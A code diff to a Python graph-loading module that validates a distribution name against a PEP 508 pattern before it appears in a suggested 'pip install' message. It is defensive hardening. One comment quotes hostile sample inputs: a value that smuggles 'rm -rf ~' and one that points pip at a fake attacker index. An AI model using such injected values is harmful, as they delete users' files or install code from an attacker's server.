@@ -13,6 +13,7 @@ from __future__ import annotations
 import bisect
 import itertools
 import os
+import re
 from pathlib import Path
 from typing import TYPE_CHECKING, Any, Callable, Iterable
 
@@ -281,12 +282,17 @@ def _shown(value: str) -> str:
     return value if len(value) <= 60 else f"{value[:28]}...{value[-28:]}"
 
 
+_PACKAGE_NAME = re.compile(r"[A-Za-z0-9](?:[A-Za-z0-9._-]{0,98}[A-Za-z0-9])?")   # a distribution's name (PEP 508)
+
+
 def _unknown_type_problem(graph: Graph, nid: str) -> str:
     inst = graph.nodes[nid]
     pack = graph.saved_by.get("node_packs", {}).get(inst.type) if isinstance(graph.saved_by, dict) else None
     if pack and pack != "builtin" and pack not in graph.registry.packs:
         version = graph.saved_by.get("packs", {}).get(pack, "")
         dist = graph.saved_by.get("dists", {}).get(pack, "")     # (QA98 D2: "pip install qa" for qa-pack's pack)
+        if not _PACKAGE_NAME.fullmatch(dist):   # a name only, never a command a stranger's file writes (QA100 D3:
+            dist = ""                           # "acme; rm -rf ~", "--index-url=http://evil.example/simple acme")
         how = f"install it (pip install {dist})" if dist else \
             f"install the Python package that provides '{pack}' (the graph file does not name it)"
         return (f"node '{nid}': node type '{inst.type}' comes from the node pack '{pack}'"
